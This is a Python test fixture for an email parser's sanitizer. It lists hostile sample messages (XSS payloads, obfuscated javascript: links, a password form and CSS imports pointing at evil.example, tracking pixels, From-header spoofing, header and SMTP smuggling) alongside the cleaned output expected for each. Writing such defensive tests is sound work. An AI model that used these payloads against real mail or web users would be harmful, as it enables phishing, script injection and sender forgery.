"""Messages that want to run something, to fetch something, or to be taken for somebody else's."""

from __future__ import annotations

from tests.callcenter.mail.parsing.builders import FROM, PLAIN, TO, Sample, message, person

SUBJECT = "Subject: s"
LINK = 'target="_blank" rel="noopener noreferrer nofollow"'
UNLINKED = '<a rel="noopener noreferrer nofollow" target="_blank">a</a>'


def hostile_samples() -> list[Sample]:
    return _markup() + _pretenders() + _blocks()


def _markup() -> list[Sample]:
    def html(name: str, source: str | bytes, **expected: object) -> Sample:
        return Sample(f"hostile_{name}", message(FROM, TO, SUBJECT, "Content-Type: text/html; charset=utf-8", body=source), expected)

    return [
        html("svg_onload", "<p>a</p><svg onload=alert(1)><script>alert(2)</script><text>b</text></svg>", html="<p>a</p>", text="a"),
        html("mathml_mutation", "<p>a</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", html="<p>a</p>"),
        html("event_handlers", '<p onclick="x()" onmouseover=y()>a</p><body onload=z()>', html="<p>a</p>"),
        html("css_expression", '<p style="width:expression(alert(1))">a</p>', html="<p>a</p>"),
        html("css_escaped_url", '<p style="background:\\75rl(//evil.example)">a</p>', html="<p>a</p>"),
        html("css_import", "<style>@import '//evil.example/a.css';</style><p>a</p>", html="<p>a</p>"),
        html("css_covers_the_page", '<div style="position:fixed;top:0;left:0;z-index:9;color:red">a</div>', html='<div style="color:red">a</div>'),
        html("form_asks_for_a_password", '<form action="//evil.example"><input name=p type=password><p>a</p></form>', html="<p>a</p>"),
        html("meta_refresh", '<meta http-equiv=refresh content="0;url=//evil.example"><p>a</p>', html="<p>a</p>"),
        html("base_address", '<base href="//evil.example/"><a href="x">a</a>', html=UNLINKED),
        html("data_address", '<a href="data:text/html,<script>alert(1)</script>">a</a>', html=UNLINKED),
        html("address_with_a_tab", '<a href="java\tscript:alert(1)">a</a>', html=f"<a {LINK}>a</a>"),
        html("address_in_entities", '<a href="&#106;avascript&colon;alert(1)">a</a>', html=f"<a {LINK}>a</a>"),
        html("frame_inside", '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>a</p>', html="<p>a</p>"),
        html("object_and_embed", '<object data="//evil.example/x.swf"></object><embed src="//evil.example"><p>a</p>', html="<p>a</p>"),
        html("picture_set", '<p>a</p><picture><source srcset="//evil.example/a"><img srcset="//evil.example/b 2x"></picture>', html="<p>a</p><img>"),
        html("tracking_pixel", '<p>a</p><img width=1 height=1 src="https://evil.example/p?id=7">',
             html='<p>a</p><img width="1" height="1" data-blocked-src="https://evil.example/p?id=7">'),
        html("template_and_noscript", "<template><script>alert(1)</script></template><noscript><p>a</p></noscript>", text="a"),
        html("conditional_comment", "<!--[if mso]><script>alert(1)</script><![endif]--><p>a</p>", html="<p>a</p>"),
        html("tag_never_ends", '<p>a</p><img src="x" onerror="alert(1)', text="a"),
        html("nul_inside_a_tag", b"<p>a</p><scr\x00ipt>alert(1)</scr\x00ipt>", text="a\n\nalert(1)"),
        html("entity_beyond_unicode", "<p>a&#x110000;b&#0;c</p>", text="a\ufffdb\ufffdc"),
        html("table_never_ends", "<table>" + "<tr><td>a" * 40, text="\n".join(["a"] * 40)),
        html("own_blocked_source", '<p>a</p><img data-blocked-src="javascript:alert(1)">', html="<p>a</p><img>"),
        html("link_says_another_address", '<a href="https://evil.example/">https://bank.example/</a>', html=f'<a href="https://evil.example/" {LINK}>https://bank.example/</a>'),
    ]  # fmt: skip


def _pretenders() -> list[Sample]:
    def mail(name: str, *headers: str, **expected: object) -> Sample:
        return Sample(
            f"hostile_{name}",
            message(*headers, *(() if any(one.startswith("Subject:") for one in headers) else (SUBJECT,)), PLAIN, body="x"),
            expected,
        )

    support = "support@callout.example"
    return [
        mail("name_is_our_address", f'From: "{support}" <eve@example.com>', TO, from_email="eve@example.com", from_name=support),
        mail("from_twice", "From: eve@example.com", f"From: {support}", TO, from_email="eve@example.com"),
        mail("sender_is_another", "From: eve@example.com", f"Sender: {support}", TO, from_email="eve@example.com"),
        mail("name_with_direction_override", "From: \u202enimda\u202c <eve@example.com>", TO, from_email="eve@example.com", from_name="nimda"),
        mail("address_in_the_comment", f"From: eve@example.com ({support})", TO, from_email="eve@example.com", from_name=support),
        mail("address_after_the_address", f"From: <eve@example.com>, <{support}>", TO, from_email="eve@example.com"),
        mail("address_route", f"From: <@{support.partition('@')[2]}:eve@example.com>", TO, from_email="eve@example.com"),
        mail("line_break_in_the_name", "From: =?utf-8?Q?Eve=0D=0ABcc:_all@example.com?= <eve@example.com>", TO, from_email="eve@example.com",
             from_name="Eve Bcc: all@example.com", to=[person(support)]),
        mail("message_id_of_ours", FROM, TO, "Message-ID: <t42.forged@callout.example>", message_id="<t42.forged@callout.example>"),
        mail("message_id_with_line_break", FROM, TO, "Message-ID: <a", "\tb@example.com>", message_id="<ab@example.com>"),
        mail("message_id_is_markup", FROM, TO, "Message-ID: <<script>alert(1)</script>@example.com>", from_email="ann@example.com"),
        mail("references_by_the_thousand", FROM, TO, "References: <first@x.org>" + "".join(f" <{number}@x.org>" for number in range(400)),
             references=["<first@x.org>", *(f"<{number}@x.org>" for number in range(201, 400))]),
        mail("subject_with_terminal_codes", FROM, TO, "Subject: \x1b[31mred\x1b[0m\x07", subject="[31mred[0m"),
    ]  # fmt: skip


def _blocks() -> list[Sample]:
    return [
        Sample(
            "hostile_subject_of_many_kilobytes",
            message(FROM, TO, "Subject: " + "long " * 4_000, PLAIN, body="x"),
            {"subject": ("long " * 4_000)[:2_000].strip(), "text": "x", "repaired": True},
        ),
        Sample("hostile_nul_in_headers", message(FROM, TO, b"Subject: a\x00b", PLAIN, body="x"), {"subject": "ab", "text": "x"}),
        Sample(
            "hostile_header_name_of_a_kilobyte",
            message(FROM, "X" * 1_000 + ": y", TO, "Subject: found", PLAIN, body="x"),
            {"subject": "found"},
        ),
        Sample(
            "hostile_text_turned_around",
            message(FROM, TO, SUBJECT, PLAIN, body="pay \u202e54321\u202c now"),
            {"text": "pay \u202e54321\u202c now"},
        ),
        Sample(
            "hostile_subject_twice",
            message(FROM, TO, "Subject: the first", "Subject: the second", PLAIN, body="x"),
            {"subject": "the first"},
        ),
        Sample(
            "hostile_smuggled_second_message",
            message(FROM, TO, SUBJECT, PLAIN, body="one\n.\nMAIL FROM:<eve@example.com>\nFrom: eve@example.com\n\ntwo"),
            {"from_email": "ann@example.com", "text": "one\n.\nMAIL FROM:<eve@example.com>\nFrom: eve@example.com\n\ntwo"},
        ),
    ]
